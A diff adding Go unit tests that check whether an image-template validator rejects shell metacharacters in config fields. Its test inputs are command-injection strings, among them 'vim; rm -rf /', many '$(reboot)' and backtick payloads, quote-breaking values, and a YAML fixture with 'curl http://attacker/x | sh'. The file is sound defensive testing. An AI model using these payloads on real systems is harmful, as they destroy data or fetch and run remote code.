@@ -0,0 +1,160 @@
+package config
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestValidateShellSafety(t *testing.T) {
+	tests := []struct {
+		name    string
+		modify  func(*ImageTemplate)
+		wantErr string
+	}{
+		{name: "safe values", modify: func(t *ImageTemplate) {}},
+		{name: "package spec syntax", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Packages = []string{"vim=2:9.1", "libc6 (>= 2.36)", "curl | wget", "openssl >= 3.0", "linux-firmware*"}
+		}},
+		{name: "cmdline with quotes", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Kernel.Cmdline = `console=ttyS0 dyndbg="module usbcore +p"`
+		}},
+		{name: "package with command separator", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Packages = []string{"vim; rm -rf /"}
+		}, wantErr: `invalid package in systemConfig.packages: "vim; rm -rf /" contains shell metacharacter ';'`},
+		{name: "package with command substitution", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Kernel.Packages = []string{"kernel`reboot`"}
+		}, wantErr: "systemConfig.kernel.packages"},
+		{name: "package alternative with pipe into command", modify: func(t *ImageTemplate) {
+			t.SystemConfig.ArchPackages = map[string][]string{"x86_64": {"vim | (reboot)"}}
+		}, wantErr: "systemConfig.archPackages.x86_64"},
+		{name: "additional file path", modify: func(t *ImageTemplate) {
+			t.SystemConfig.AdditionalFiles = []AdditionalFileInfo{{Local: "files/motd", Final: "/etc/motd$(id)"}}
+		}, wantErr: `invalid value in systemConfig.additionalFiles: "/etc/motd$(id)" contains shell metacharacter '$'`},
+		{name: "hostname", modify: func(t *ImageTemplate) {
+			t.SystemConfig.HostName = "edge&&reboot"
+		}, wantErr: "systemConfig.hostname"},
+		{name: "user group", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Users = []UserConfig{{Name: "admin", Groups: []string{"<REQUIRED_GROUP>"}}}
+		}, wantErr: "systemConfig.users"},
+		{name: "cmdline", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Kernel.Cmdline = "quiet; reboot"
+		}, wantErr: "systemConfig.kernel.cmdline"},
+		{name: "pkcs11 key URI", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Immutability.SecureBootDBKeyURI = "pkcs11:object=db-key?pin-source=file:/keys/pin&module-name=softhsm2"
+		}},
+		{name: "pkcs11 key URI breaking out of its quotes", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Immutability.SecureBootDBKeyURI = "pkcs11:object=db-key' -out /dev/null; reboot; echo '"
+		}, wantErr: `invalid value in systemConfig.immutability.secureBootDBKeyURI: "pkcs11:object=db-key' -out /dev/null; reboot; echo '" contains shell metacharacter '\''`},
+		{name: "pkcs11 key URI with attribute separator", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Immutability.SecureBootDBKeyURI = "pkcs11:token=sb;object=db-key"
+		}, wantErr: "systemConfig.immutability.secureBootDBKeyURI"},
+		{name: "pkcs11 key URI with command substitution", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Immutability.SecureBootDBKeyURI = "pkcs11:object=$(reboot)"
+		}, wantErr: "systemConfig.immutability.secureBootDBKeyURI"},
+		{name: "pkcs11 key URI with backticks", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Immutability.SecureBootDBKeyURI = "pkcs11:object=`reboot`"
+		}, wantErr: "systemConfig.immutability.secureBootDBKeyURI"},
+		{name: "extra kernel modules", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Kernel.EnableExtraModules = "usbhid xhci_hcd"
+		}},
+		{name: "extra kernel module breaking out of its quotes", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Kernel.EnableExtraModules = "usbhid' ; reboot; echo '"
+		}, wantErr: "systemConfig.kernel.enableExtraModules"},
+		{name: "initramfs compression", modify: func(t *ImageTemplate) {
+			t.SystemConfig.Initramfs.Compression = "zstd;reboot"
+		}, wantErr: "systemConfig.initramfs.compression"},
+		{name: "disk path", modify: func(t *ImageTemplate) {
+			t.Disk.Path = "/dev/sda$(reboot)"
+		}, wantErr: "disk.path"},
+		{name: "partition mount point", modify: func(t *ImageTemplate) {
+			t.Disk.Partitions[1].MountPoint = "/data;reboot"
+		}, wantErr: `invalid value in disk.partitions: "/data;reboot" contains shell metacharacter ';'`},
+		{name: "partition name", modify: func(t *ImageTemplate) {
+			t.Disk.Partitions[1].Name = "data`reboot`"
+		}, wantErr: "disk.partitions"},
+		{name: "partition id", modify: func(t *ImageTemplate) {
+			t.Disk.Partitions[1].ID = "data&reboot"
+		}, wantErr: "disk.partitions"},
+		{name: "partition filesystem label", modify: func(t *ImageTemplate) {
+			t.Disk.Partitions[1].FsLabel = "data|reboot"
+		}, wantErr: "disk.partitions"},
+		{name: "partition type GUID", modify: func(t *ImageTemplate) {
+			t.Disk.Partitions[1].TypeGUID = "0fc63daf>/etc/passwd"
+		}, wantErr: "disk.partitions"},
+		{name: "nameservers and search domains", modify: func(t *ImageTemplate) {
+			t.SystemConfig.ResolvConf = ResolvConf{Nameservers: []string{"10.0.0.1", "fd00::1"}, Search: []string{"corp.example.com"}}
+		}},
+		{name: "nameserver", modify: func(t *ImageTemplate) {
+			t.SystemConfig.ResolvConf.Nameservers = []string{"10.0.0.1$(reboot)"}
+		}, wantErr: "systemConfig.resolvConf"},
+		{name: "search domain", modify: func(t *ImageTemplate) {
+			t.SystemConfig.ResolvConf.Search = []string{"corp.example.com\nnameserver 6.6.6.6"}
+		}, wantErr: "systemConfig.resolvConf"},
+		{name: "hosts entry IP", modify: func(t *ImageTemplate) {
+			t.SystemConfig.HostsEntries = []HostsEntry{{IP: "10.0.0.5;reboot", Hostnames: []string{"registry"}}}
+		}, wantErr: "systemConfig.hostsEntries"},
+		{name: "hosts entry hostname", modify: func(t *ImageTemplate) {
+			t.SystemConfig.HostsEntries = []HostsEntry{{IP: "10.0.0.5", Hostnames: []string{"registry", "mirror`reboot`"}}}
+		}, wantErr: "systemConfig.hostsEntries"},
+		{name: "additional file owner", modify: func(t *ImageTemplate) {
+			t.SystemConfig.AdditionalFiles = []AdditionalFileInfo{{Local: "files/motd", Final: "/etc/motd", Owner: "root;reboot"}}
+		}, wantErr: "systemConfig.additionalFiles"},
+		{name: "additional file group", modify: func(t *ImageTemplate) {
+			t.SystemConfig.AdditionalFiles = []AdditionalFileInfo{{Local: "files/motd", Final: "/etc/motd", Group: "adm$(reboot)"}}
+		}, wantErr: "systemConfig.additionalFiles"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			template := &ImageTemplate{
+				Image:  ImageInfo{Name: "edge-image", Version: "1.0.0"},
+				Target: TargetInfo{OS: "ubuntu", Dist: "ubuntu24", Arch: "x86_64", ImageType: "raw"},
+				SystemConfig: SystemConfig{
+					HostName: "edge-node",
+					Packages: []string{"vim", "openssh-server"},
+					Users:    []UserConfig{{Name: "admin", Groups: []string{"sudo"}, Shell: "/bin/bash"}},
+					Kernel:   KernelConfig{Version: "6.8", Cmdline: "console=ttyS0,115200 quiet"},
+				},
+				Disk: DiskConfig{Partitions: []PartitionInfo{
+					{ID: "boot", Name: "EFI", FsLabel: "esp", MountPoint: "/boot/efi", TypeGUID: "c12a7328-f81f-11d2-ba4b-00a0c93ec93b"},
+					{ID: "rootfs", Name: "rootfs", FsLabel: "rootfs", MountPoint: "/"},
+				}},
+			}
+			tt.modify(template)
+
+			err := template.validateShellSafety()
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+		})
+	}
+}
+
+func TestParseYAMLTemplateRejectsShellMetachars(t *testing.T) {
+	data := []byte(`image:
+  name: edge-image
+  version: "1.0.0"
+target:
+  os: ubuntu
+  dist: ubuntu24
+  arch: x86_64
+  imageType: raw
+systemConfig:
+  name: edge
+  packages:
+    - vim
+  additionalFiles:
+    - local: files/motd
+      final: "/etc/motd; curl http://attacker/x | sh"
+`)
+	_, err := parseYAMLTemplate(data, false)
+	if err == nil || !strings.Contains(err.Error(), "shell metacharacter") {
+		t.Fatalf("expected template with shell metacharacters to be rejected, got %v", err)
+	}
+}